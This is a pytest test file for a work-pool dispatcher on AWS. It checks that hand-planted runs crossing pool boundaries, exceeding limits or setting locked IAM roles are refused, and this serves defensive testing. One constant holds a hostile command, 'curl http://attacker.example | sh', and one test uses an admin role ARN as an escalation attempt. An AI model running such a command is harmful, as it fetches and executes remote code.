"""Pools are walls, in code: a run item written by hand (as anyone able to write the runs table
could) is checked against its deployment and its pool before it is claimed. A crafted run is
refused (FAILED with the reason, counted), no task starts, and the pool's counters stay as they
were. Locked job variables are refused before anything is written.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest

from pushpool import services
from pushpool.aws.clients import Clients
from pushpool.aws.codec import to_item
from pushpool.aws.dynamodb import Store
from pushpool.contracts import Metric
from pushpool.core.models import Deployment, FlowRun, WorkPool
from pushpool.core.outcomes import RunOutcome
from pushpool.core.sources import ImageSource
from pushpool.core.states import StateType
from pushpool.core.templates import with_defaults
from pushpool.core.timeutil import iso, now
from pushpool.core.updates import PoolUpdate
from pushpool.dispatch import Dispatcher
from pushpool.errors import JobVariablesError, ValidationError
from pushpool.pooltypes import default_base_job_template
from tests.functional.helpers import all_tasks, stored_items

GUARD = "guard"
OTHER = "vp"
INJECTED = ["sh", "-c", "curl http://attacker.example | sh"]


def guard_template() -> dict[str, Any]:
    """The platform team's guardrail: at most 1 GiB per task."""
    template = default_base_job_template()
    template["variables"]["properties"]["memory"]["maximum"] = 1024
    return template


@pytest.fixture
def pools(store: Store) -> tuple[WorkPool, WorkPool]:
    guard = services.create_pool(store, GUARD, base_job_template=guard_template())
    other = services.create_pool(store, OTHER)
    return guard, other


def deploy(store: Store, name: str, pool: str, **fields: Any) -> Deployment:
    deployment = Deployment(
        name=name,
        flow_name="etl",
        pool=pool,
        entrypoint="flows/etl.py:etl",
        source=ImageSource(),
        **fields,
    )
    return services.save_deployment(store, deployment)[0]


def plant_run(clients: Clients, store: Store, deployment: Deployment, pool: str, **jv: Any) -> str:
    """What a flow with UpdateItem on the runs table could do: write a SCHEDULED run by hand,
    due in ``pool``, naming ``deployment``, with whatever job variables it likes."""
    run = FlowRun(
        deployment=deployment.full_name,
        deployment_id=deployment.id,
        flow_name=deployment.flow_name,
        pool=pool,
        job_variables=jv,
    )
    item = {**run.model_dump(mode="json"), "due_pool": pool, "due_at": iso(now())}
    clients("dynamodb").put_item(TableName=store.runs, Item=to_item(item))
    return run.id


@pytest.fixture
def guard_dispatcher(make_dispatcher: Callable[..., Dispatcher]) -> Dispatcher:
    return make_dispatcher(pools=[GUARD])


def pool_items(clients: Clients, store: Store) -> list[dict[str, Any]]:
    return [i for i in stored_items(clients, store.control) if i["pk"] == "POOL"]


@pytest.mark.parametrize(
    ("which", "variables", "reason"),
    [
        ("other pool", {"memory": 999999999, "command": INJECTED}, "of work pool 'vp'"),
        ("own pool", {"memory": 999999999}, "'memory'"),
        ("own pool", {"task_role_arn": "arn:aws:iam::123456789012:role/admin"}, "locked"),
    ],
    ids=["another-pools-deployment", "over-the-schema", "locked-variable"],
)
def test_a_crafted_run_is_refused_launches_nothing_and_touches_no_counter(
    clients: Clients,
    store: Store,
    pools: tuple[WorkPool, WorkPool],
    guard_dispatcher: Dispatcher,
    which: str,
    variables: dict[str, Any],
    reason: str,
) -> None:
    owner = OTHER if which == "other pool" else GUARD
    deployment = deploy(store, "nightly", owner)
    before = copy.deepcopy(pool_items(clients, store))
    run_id = plant_run(clients, store, deployment, GUARD, **variables)

    report = guard_dispatcher.tick()

    refused = store.get_run(run_id)
    assert refused.state is StateType.FAILED
    assert refused.state_message.startswith("Refused")
    assert reason in refused.state_message
    assert report.ids(RunOutcome.REFUSED) == [run_id]
    assert (Metric.RUNS_REFUSED, 1) in report.metrics()
    assert all_tasks(clients) == []
    assert pool_items(clients, store) == before  # limits, counters, templates: untouched
    assert guard_dispatcher.tick().dispatched == []


def test_a_run_created_the_supported_way_still_launches(
    clients: Clients, store: Store, pools: tuple[WorkPool, WorkPool], guard_dispatcher: Dispatcher
) -> None:
    deployment = deploy(store, "nightly", GUARD, job_variables={"memory": 1024})
    run = services.create_run(store, deployment.full_name)

    assert guard_dispatcher.tick().dispatched == [run.id]
    assert len(all_tasks(clients)) == 1


@pytest.mark.parametrize("variable", ["task_role_arn", "execution_role_arn"])
def test_locked_variables_are_refused_before_anything_is_written(
    clients: Clients, store: Store, pools: tuple[WorkPool, WorkPool], variable: str
) -> None:
    role = {variable: "arn:aws:iam::123456789012:role/admin"}
    with pytest.raises(JobVariablesError, match=f"'{variable}' is locked by work pool 'guard'"):
        deploy(store, "sneaky", GUARD, job_variables=role)
    assert store.find_deployment("etl/sneaky") is None
    deployment = deploy(store, "nightly", GUARD)
    with pytest.raises(JobVariablesError, match="locked"):
        services.create_run(store, deployment.full_name, job_variables=role)
    assert store.list_runs(pool=GUARD) == []


def test_the_pool_itself_sets_its_locked_variables(
    store: Store, pools: tuple[WorkPool, WorkPool]
) -> None:
    role = "arn:aws:iam::123456789012:role/flows"
    template = with_defaults(guard_template(), {"task_role_arn": role})
    services.update_pool(store, GUARD, PoolUpdate(base_job_template=template))
    deployment = deploy(store, "nightly", GUARD)
    assert services.create_run(store, deployment.full_name).state is StateType.SCHEDULED


def test_parameters_too_large_for_a_tasks_overrides_are_refused_before_anything_is_written(
    store: Store, pools: tuple[WorkPool, WorkPool]
) -> None:
    """The runner is given its run in RunTask's overrides (8 KiB in all): what cannot fit is
    refused at creation, naming the size and the fix, not failed at launch."""
    deployment = deploy(store, "nightly", GUARD)
    with pytest.raises(ValidationError, match=r"Parameters take 10,0\d\d characters.*by reference"):
        services.create_run(store, deployment.full_name, parameters={"blob": "x" * 10_000})
    assert store.list_runs(pool=GUARD) == []
